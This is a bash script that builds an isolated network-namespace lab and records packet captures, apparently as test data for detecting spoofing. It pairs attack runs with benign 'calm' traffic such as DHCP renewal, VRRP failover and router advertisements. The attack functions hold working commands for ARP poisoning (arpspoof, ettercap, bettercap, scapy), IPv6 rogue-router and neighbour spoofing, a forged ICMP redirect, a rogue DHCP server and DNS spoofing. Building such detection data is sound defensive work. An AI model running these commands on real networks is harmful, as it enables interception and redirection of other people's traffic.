#!/bin/bash
# Makes the captures in made/: real tools between network namespaces of this machine, recorded by tcpdump at the
# victim. Nothing leaves the machine. Needs root and Debian's packages tcpdump, dsniff, ettercap-text-only, bettercap,
# python3-scapy, thc-ipv6, keepalived, dnsmasq-base, isc-dhcp-client, radvd, iproute2, iputils-ping.
#   make.sh NAME…   makes some; without a name, all.
set -u
OUT=$(cd "$(dirname "$0")" && pwd)/made
WORK=$(mktemp -d)
P=vgn$$
host() { ip netns exec "$P-$1" "${@:2}"; }

up() {
    ip netns add "$P-switch"
    host switch ip link add br0 type bridge
    host switch ip link set br0 up
    local n=0 name
    for name in gateway victim attacker second; do
        n=$((n + 1))
        ip netns add "$P-$name"
        ip link add "$P$n" type veth peer name eth0 netns "$P-$name"
        ip link set "$P$n" netns "$P-switch"
        host switch ip link set "$P$n" master br0 up
        host "$name" sysctl -qw net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.accept_dad=0
        host "$name" ip link set lo up
        host "$name" ip link set eth0 address "02:00:5e:10:00:0$n" up
        host "$name" ethtool -K eth0 tx off >/dev/null 2>&1
    done
    host gateway ip addr add 10.77.0.1/24 dev eth0
    host victim ip addr add 10.77.0.20/24 dev eth0
    host attacker ip addr add 10.77.0.66/24 dev eth0
    host second ip addr add 10.77.0.2/24 dev eth0
    host attacker ip route add default via 10.77.0.1
    host attacker sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
    sleep 2
}

down() {
    local name
    for name in gateway victim attacker second switch; do
        for pid in $(ip netns pids "$P-$name" 2>/dev/null); do kill -9 "$pid" 2>/dev/null; done
        ip netns del "$P-$name" 2>/dev/null
    done
}

# record NAME SECONDS: then the function of that name runs.
record() {
    up
    host victim tcpdump -i eth0 -w "$WORK/$1.pcap" -U -s 600 >/dev/null 2>&1 &
    sleep 1
    host victim ping -i 1 -q 10.77.0.1 >/dev/null 2>&1 &
    host gateway ping -i 1 -q 10.77.0.20 >/dev/null 2>&1 &
    sleep 2
    "$1"
    sleep 1
    for pid in $(ip netns pids "$P-victim"); do kill -INT "$pid" 2>/dev/null; done
    sleep 1
    down
    cp "$WORK/$1.pcap" "$OUT/$1.pcap"
    echo "$1 $(stat -c %s "$OUT/$1.pcap")"
}

during() { timeout -s INT "$@" >/dev/null 2>&1 </dev/null; sleep 1; }

# Attacks
arpspoof-oneway() { during 9 ip netns exec $P-attacker arpspoof -i eth0 -t 10.77.0.20 10.77.0.1; sleep 6; }
arpspoof-bothways() { during 9 ip netns exec $P-attacker arpspoof -i eth0 -r -t 10.77.0.20 10.77.0.1; sleep 8; }
ettercap-remote() { host attacker timeout -s INT 18 ettercap -T -q -i eth0 -M arp:remote /10.77.0.20// /10.77.0.1// </dev/zero >/dev/null 2>&1; sleep 4; }
bettercap-arp() {
    host attacker ping -c 1 10.77.0.20 >/dev/null; host attacker ping -c 1 10.77.0.1 >/dev/null
    host attacker timeout -s INT 12 bettercap -iface eth0 -gateway-override 10.77.0.1 -no-colors -no-history -eval "set arp.spoof.targets 10.77.0.20; set arp.spoof.fullduplex true; arp.spoof on" </dev/zero >/dev/null 2>&1; sleep 3; }
scapy-poison() { during 34 ip netns exec $P-attacker /usr/bin/python3 -c 'from scapy.all import *; conf.iface="eth0"; arpcachepoison("10.77.0.20","10.77.0.1",interval=15)'; }
fake-router6() { host gateway radvd -C "$WORK/radvd.conf" -p "$WORK/radvd.pid" -m none; sleep 2; during 12 ip netns exec $P-attacker atk6-fake_router6 eth0 2001:db8:bad::/64; }
fake-router26() { host gateway radvd -C "$WORK/radvd.conf" -p "$WORK/radvd.pid" -m none; sleep 2; during 12 ip netns exec $P-attacker atk6-fake_router26 -A 2001:db8:bad::/64 eth0; }
parasite6() {
    host gateway ip addr add 2001:db8:77::1/64 dev eth0 nodad; host victim ip addr add 2001:db8:77::20/64 dev eth0 nodad
    host attacker ip addr add 2001:db8:77::66/64 dev eth0 nodad
    host victim ping -i 1 -q 2001:db8:77::1 >/dev/null 2>&1 &
    host attacker timeout -s INT 14 atk6-parasite6 -l eth0 >/dev/null 2>&1 </dev/zero &
    sleep 4; host victim ip -6 neigh flush dev eth0; sleep 4; host victim ip -6 neigh flush dev eth0; sleep 7; }
redirect() { host attacker /usr/bin/python3 -c '
from scapy.all import *
conf.iface="eth0"
for n in range(3):
    sendp(Ether(src="02:00:5e:10:00:03",dst="02:00:5e:10:00:02")/IP(src="10.77.0.1",dst="10.77.0.20")/ICMP(type=5,code=1,gw="10.77.0.66")/IP(src="10.77.0.20",dst="192.0.2.9")/UDP(sport=4000,dport=53), verbose=0); time.sleep(1)
'; }
two-dhcp-servers() {
    host victim ip addr flush dev eth0
    dhcpserver gateway 10.77.0.1 100; dhcpserver attacker 10.77.0.66 200; sleep 1
    for n in 1 2 3; do host victim timeout 8 dhclient -1 -v -sf /bin/true -lf "$WORK/l$n" -pf "$WORK/dp$n" eth0 >/dev/null 2>&1; sleep 1; done; }
dns-spoof() { host gateway dnsmasq -k -p 53 -h -R --conf-file=/dev/null --pid-file= --host-record=bank.example,192.0.2.10 --host-record=mail.example,192.0.2.11 >/dev/null 2>&1 &
    sleep 1; host attacker arpspoof -i eth0 -r -t 10.77.0.20 10.77.0.1 >/dev/null 2>&1 &
    sleep 1; printf '10.77.0.66 bank.example\n10.77.0.66 mail.example\n' >"$WORK/hosts"
    host attacker dnsspoof -i eth0 -f "$WORK/hosts" >/dev/null 2>&1 &
    sleep 2
    for name in bank.example mail.example; do host victim python3 -c '
import socket,struct,sys
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2)
q=struct.pack(">6H",4242+len(sys.argv[1]),0x100,1,0,0,0)+b"".join(bytes([len(p)])+p.encode() for p in sys.argv[1].split("."))+b"\0"+struct.pack(">2H",1,1)
s.sendto(q,("10.77.0.1",53))
for n in range(2):
    try: s.recv(512)
    except OSError: pass
' $name; sleep 1; done; }

# Calm
dhcpserver() { host "$1" dnsmasq -p 0 -k --conf-file=/dev/null --leasefile-ro --pid-file= -F "10.77.0.$3,10.77.0.$(($3 + 20)),120" -O "3,$2" -O "6,$2" -i eth0 >/dev/null 2>&1 & }
calm-dhcp-renewal() {
    host victim ip addr flush dev eth0
    dhcpserver gateway 10.77.0.1 100; sleep 1
    printf 'timeout 10;\n' >"$WORK/dhclient.conf"
    for n in 1 2 3; do host victim timeout 8 dhclient -1 -cf "$WORK/dhclient.conf" -lf "$WORK/leases" -pf "$WORK/dp" eth0 >/dev/null 2>&1; sleep 2; kill "$(cat "$WORK/dp")" 2>/dev/null; done; }
vrrp() { # vrrp USE_VMAC
    local n
    for n in gateway second; do
        printf 'global_defs { router_id %s }\nvrrp_instance v { state BACKUP\n interface eth0\n virtual_router_id 7\n priority %s\n advert_int 1\n %s\n virtual_ipaddress { 10.77.0.254/24 } }\n' \
            "$n" "$([ $n = gateway ] && echo 150 || echo 100)" "$1" >"$WORK/keepalived-$n.conf"
        host "$n" keepalived -n -l -f "$WORK/keepalived-$n.conf" -p "$WORK/k-$n" -r "$WORK/kv-$n" -c "$WORK/kc-$n" >/dev/null 2>&1 &
    done
    sleep 5; host victim ping -i 0.5 -q 10.77.0.254 >/dev/null 2>&1 &
    sleep 4; kill "$(cat "$WORK/k-gateway")"; sleep 7
    host gateway keepalived -n -l -f "$WORK/keepalived-gateway.conf" -p "$WORK/k-gateway" -r "$WORK/kv-gateway" -c "$WORK/kc-gateway" >/dev/null 2>&1 &
    sleep 8; }
calm-vrrp() { vrrp ""; }
calm-vrrp-virtual-mac() { vrrp use_vmac; }
calm-gratuitous() { host second ip addr add 10.77.0.9/24 dev eth0; host second arping -U -c 3 -I eth0 10.77.0.9 >/dev/null; host second arping -A -c 2 -I eth0 10.77.0.9 >/dev/null; host victim ping -c 3 10.77.0.9 >/dev/null; }
calm-new-router() { host gateway ip link set eth0 down; sleep 3; host second ip addr add 10.77.0.1/24 dev eth0; host victim ip neigh flush dev eth0; sleep 6; }
calm-lossy() { host victim tc qdisc add dev eth0 root netem delay 200ms 50ms loss 20% 2>/dev/null; host gateway tc qdisc add dev eth0 root netem delay 200ms 50ms loss 20% duplicate 10% 2>/dev/null; for n in 1 2 3 4; do host victim ip neigh flush dev eth0; sleep 4; done; }
calm-router-advertisements() { host gateway radvd -C "$WORK/radvd.conf" -p "$WORK/radvd.pid" -m none; sleep 10; host victim ping -c 3 -I eth0 ff02::2 >/dev/null; }

printf 'interface eth0 { AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4; prefix 2001:db8:77::/64 {}; RDNSS 2001:db8:77::1 {}; };\n' >"$WORK/radvd.conf"
trap 'down; rm -rf "$WORK"' EXIT
mkdir -p "$OUT"
ALL="arpspoof-oneway arpspoof-bothways ettercap-remote bettercap-arp scapy-poison fake-router6 fake-router26 parasite6 redirect two-dhcp-servers dns-spoof
    calm-dhcp-renewal calm-vrrp calm-vrrp-virtual-mac calm-gratuitous calm-new-router calm-lossy calm-router-advertisements"
for name in ${*:-$ALL}; do record "$name"; done
